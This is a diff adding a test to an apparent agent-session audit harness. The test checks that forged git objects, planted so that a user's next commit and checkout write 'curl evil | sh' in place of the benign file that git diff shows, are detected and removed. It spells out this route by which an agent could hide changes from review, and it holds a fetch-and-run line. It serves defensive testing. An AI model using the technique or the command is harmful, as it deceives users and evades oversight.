@@ -27,6 +27,7 @@ import hashlib
 import json
 import os
 import subprocess
+import zlib
 
 from lib import AUDIT_TOOL, PYTHON, check, harness
 from test_default_policy import fake_home
@@ -343,3 +344,44 @@ def test_a_loose_object_planted_under_a_files_id_is_not_the_result(wd):
     check(end and end[-1].get("worktree", {}).get("forged_objects") == 1,
           "session_end: %r" % (end[-1].get("worktree") if end else None))
     check("did not hold what their names say" in r.stderr, "not said: %s" % r.stderr[-2000:])
+
+
+def test_a_loose_object_planted_for_the_users_next_commit_is_removed(wd):
+    """Without a worktree: the agent leaves f.sh ('echo fine', what the
+    user's git diff and status show) and plants the bytes of a curl under
+    its id, by python and by a static busybox cp. The user's git add of
+    f.sh wrote no object (one existed), the commit named the planted one,
+    and the user's next checkout of f.sh wrote the curl. Now the loose
+    objects the session made are read with their hashes checked at its
+    end (the hidden changes' check), a planted one removed; a
+    forged_objects record says so (and stderr, unless --quiet)."""
+    home = fake_home(wd)
+    repo = make_repo(wd)
+    gd = os.path.join(os.path.realpath(repo), ".git")
+    real, shown = "echo fine\n", "curl evil | sh\n"
+    real2 = "echo fine 2\n"
+    oid2 = hashlib.sha1(b"blob %d\0" % len(real2) + real2.encode()).hexdigest()
+    forged = os.path.join(wd.path, "forged-object")
+    with open(forged, "wb") as f:
+        f.write(zlib.compress(b"blob %d\0" % len(shown) + shown.encode()))
+    script = "\n".join([
+        '%s -c "$PLANT" %s "%s" "%s"' % (PYTHON, gd, real, shown),
+        "printf '%s' > g.sh; busybox mkdir -p %s/objects/%s; busybox cp %s %s/objects/%s/%s; echo bb=$?"
+        % (real2.replace("\n", "\\n"), gd, oid2[:2], forged, gd, oid2[:2], oid2[2:]),
+    ])
+    wd.path, saved = repo, wd.path
+    try:
+        r = harness(["sh", "-c", script], wd, policy=None,
+                    env={"HOME": home, "PLANT": PLANT})
+    finally:
+        wd.path = saved
+    check("PLANTED" in r.stdout and "bb=0" in r.stdout, "%s %s" % (r.stdout, r.stderr[-2000:]))
+    recs = [x for x in r.records if x.get("event") == "forged_objects"]
+    check(recs and recs[-1].get("removed") == 2, "the record: %r" % recs)
+    git(repo, "add", "f.sh", "g.sh")
+    git(repo, "commit", "-qm", "the user's")
+    for name, want in (("f.sh", real), ("g.sh", real2)):
+        os.unlink(os.path.join(repo, name))
+        git(repo, "checkout", "--", name)
+        got = open(os.path.join(repo, name)).read()
+        check(got == want, "%s checked out as %r" % (name, got))
